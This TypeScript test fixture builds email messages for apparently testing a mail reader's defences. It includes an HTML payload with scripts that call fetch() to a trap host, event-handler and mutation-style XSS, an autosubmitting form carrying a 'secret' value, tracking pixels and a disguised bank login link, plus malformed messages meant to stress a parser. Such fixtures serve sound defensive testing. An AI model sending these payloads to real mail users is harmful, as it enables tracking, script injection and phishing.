/** One part of a message: its headers and its content in base64. */
export interface Part {
  readonly type: string
  readonly headers?: readonly string[]
  readonly content: Uint8Array | string
}

let sent = 0

/** A message as a sender's program makes it; each is dated a minute after the one before it. */
export function letter(subject: string, parts: readonly Part[], kind: 'mixed' | 'related' = 'mixed'): string {
  sent += 1
  const boundary = `=_part_${sent}`
  return [
    'From: Ada Example <ada@sender.test>',
    'To: u1@lab.test',
    `Subject: ${subject}`,
    `Date: ${new Date(Date.UTC(2026, 5, 1, 8, sent)).toUTCString()}`,
    `Message-ID: <reading-${sent}@sender.test>`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/${kind}; boundary="${boundary}"`,
    '',
    ...parts.flatMap(({ type, headers = [], content }) => [
      `--${boundary}`,
      `Content-Type: ${type}`,
      'Content-Transfer-Encoding: base64',
      ...headers,
      '',
      ...(Buffer.from(content)
        .toString('base64')
        .match(/.{1,76}/g) ?? []),
    ]),
    `--${boundary}--`,
    '',
  ].join('\r\n')
}

export const html = (content: string): Part => ({ type: 'text/html; charset=utf-8', content })
export const plain = (content: string): Part => ({ type: 'text/plain; charset=utf-8', content })
export const file = (name: string, type: string, content: Uint8Array | string): Part => ({
  type: `${type}; name="${name}"`,
  headers: [`Content-Disposition: attachment; filename="${name}"`],
  content,
})

/** Everything that markup can use to make a reader's program ask `trap` for something. */
export const hostileHtml = (trap: string): string => `<html><head>
<base href="${trap}/base/"><meta http-equiv="refresh" content="0;url=${trap}/refresh">
<link rel="stylesheet" href="${trap}/sheet.css"><link rel="preload" as="image" href="${trap}/preload.png">
<link rel="dns-prefetch" href="${trap}"><link rel="icon" href="${trap}/icon.ico">
<style>@import url("${trap}/import.css"); @font-face{font-family:x;src:url("${trap}/font.woff2")}
p{font-family:x;background:url("${trap}/style.png")} li{list-style:url(${trap}/list.png)}</style>
<script>window.hostileRan = true; fetch("${trap}/script")</script><script src="${trap}/script.js"></script></head>
<body background="${trap}/body.png" onload="fetch('${trap}/onload')">
<p>The hostile text is read.</p>
<img src="${trap}/photo.png" srcset="${trap}/photo-2x.png 2x" width="40" height="40" alt="A photograph" onerror="fetch('${trap}/onerror')">
<img src="${trap}/open.gif" width="1" height="1"><img src="${trap}/hidden.png" style="display:none">
<img src="${trap}/track/open.php?id=42" width="100" height="20" lowsrc="${trap}/low.png" dynsrc="${trap}/dyn.avi">
<div style="background-image:url('${trap}/css.png');cursor:url(${trap}/cursor.cur),auto">Beside</div>
<table background="${trap}/table.png"><tr><td background="${trap}/cell.png">Cell</td></tr></table>
<iframe src="${trap}/frame"></iframe><iframe srcdoc="<img src='${trap}/srcdoc.png'>"></iframe>
<object data="${trap}/object"></object><embed src="${trap}/embed"><applet code="${trap}/applet"></applet>
<video src="${trap}/video.mp4" poster="${trap}/poster.png" autoplay></video><audio src="${trap}/audio.mp3" autoplay></audio>
<picture><source srcset="${trap}/source.png"><img src="${trap}/picture.png" width="40" height="40"></picture>
<svg width="40" height="40"><image href="${trap}/svg.png"/><use href="${trap}/use.svg#x"/><script>fetch("${trap}/svg")</script></svg>
<math><mtext><style><img src="${trap}/mutation.png" onerror="window.hostileRan = true"></style></mtext></math>
<form action="${trap}/form"><input name="q" value="secret" autofocus onfocus="this.form.submit()">
<input type="image" src="${trap}/input.png"><button>Sign in</button></form>
<a href="javascript:fetch('${trap}/javascript')" ping="${trap}/ping">A link</a>
<a href="${trap}/phish">https://www.bank.example/login</a>
</body></html>`

const garbage = String.fromCharCode(...Array.from({ length: 400 }, (_, at) => (at * 37) % 256))
const fromAda = 'From: Ada <ada@sender.test>\r\n'

/** Messages as nobody should send them, by a word that says what is odd. As Latin-1, so that bytes stay as they are. */
export const oddMail: Readonly<Record<string, string>> = {
  'nothing at all': '\r\n',
  'no headers': 'Only a line of text, without a header.\r\n',
  'no body': `${fromAda}Subject: Headers and nothing else\r\n`,
  'a long subject': `${fromAda}Subject: ${'Long '.repeat(2000)}\r\n\r\nThe subject has ten thousand letters.\r\n`,
  'a long word': `${fromAda}Subject: ${'w'.repeat(9000)}\r\n\r\n${'x'.repeat(9000)}\r\n`,
  'letters that turn round': `From: =?utf-8?B?${base64('\u202Egnp.ada\u202E')}?= <ada@sender.test>\r\nSubject: =?utf-8?B?${base64('\u202Eecioverni \u2067 turned')}?=\r\n\r\nTurned.\r\n`,
  'three thousand recipients': `${fromAda}To: ${Array.from({ length: 3000 }, (_, at) => `"Person ${at}" <person${at}@lab.test>`).join(',\r\n ')}\r\nSubject: To everybody\r\n\r\nAll of you.\r\n`,
  'bytes of no kind': `From: ${garbage.replace(/[\r\n]/g, '')}\r\nSubject: ${garbage.replace(/[\r\n]/g, '')}\r\n\r\n${garbage}\r\n`,
  'a date of the year 9999': `${fromAda}Subject: From far away\r\nDate: Fri, 31 Dec 9999 23:59:59 +0000\r\n\r\nLater.\r\n`,
  'parts within parts': `${nested(60)}`,
}

function base64(text: string): string {
  return Buffer.from(text).toString('base64')
}

function nested(depth: number): string {
  let body = 'Content-Type: text/plain\r\n\r\nThe innermost.\r\n'
  for (let at = 0; at < depth; at += 1)
    body = `Content-Type: multipart/mixed; boundary="b${at}"\r\n\r\n--b${at}\r\n${body}\r\n--b${at}--\r\n`
  return `${fromAda}Subject: Parts within parts\r\nMIME-Version: 1.0\r\n${body}`
}
